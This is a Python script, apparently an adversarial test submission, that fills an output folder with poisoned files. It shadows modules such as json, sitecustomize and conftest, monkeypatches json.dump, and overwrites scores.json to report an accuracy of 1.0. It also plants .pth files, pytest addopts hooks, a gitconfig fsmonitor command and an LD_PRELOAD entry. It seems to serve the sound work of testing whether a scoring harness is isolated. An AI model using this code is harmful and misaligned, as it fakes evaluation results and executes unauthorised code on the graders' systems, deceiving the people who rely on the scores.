"""A submission whose predictions are code that a scorer, Python, a test runner, git or ssh may pick up by themselves."""

import os

os.chdir("/app/output")
EVIL = """
import json, os, sys
print("poisoned by", __name__)
json.dump = lambda content, file, **more: file.write('{"accuracy": 1.0}')
try: open("/app/output/scores.json", "w").write('{"accuracy": 1.0}')
except OSError: pass
"""
for name in (
    "sitecustomize",
    "usercustomize",
    "conftest",
    "json",
    "csv",
    "random",
    "statistics",
    "score",
    "numpy",
    "sklearn",
    "__init__",
    "__main__",
    "setup",
    "noxfile",
    "helper",
):
    open(f"{name}.py", "w").write(EVIL)
for folder in ("json", "__pycache__", "lib/python3.11/site-packages", "site-packages"):
    os.makedirs(folder, exist_ok=True)
    open(f"{folder}/__init__.py", "w").write(EVIL)
    open(f"{folder}/evil.pth", "w").write("import sys; print('poisoned by pth')\n")
for name, text in {
    "evil.pth": "import sys; print('poisoned by pth')\n",
    "pyvenv.cfg": "home = /app/input/res\ninclude-system-site-packages = true\n",
    "python311._pth": "/app/input/res\nimport site\n",
    "pytest.ini": "[pytest]\naddopts = -p conftest\n",
    "setup.cfg": "[tool:pytest]\naddopts = -p conftest\n",
    "gitconfig": "[core]\nfsmonitor = touch /app/output/scores.json\n",
    "LD_PRELOAD": "/app/input/res/evil.so\n",
    "evil.so": "\x7fELF",
    "metadata.yaml": "command: python3 /app/input/res/score.py\n",
    "answer.txt": "42",
}.items():
    open(name, "w").write(text)
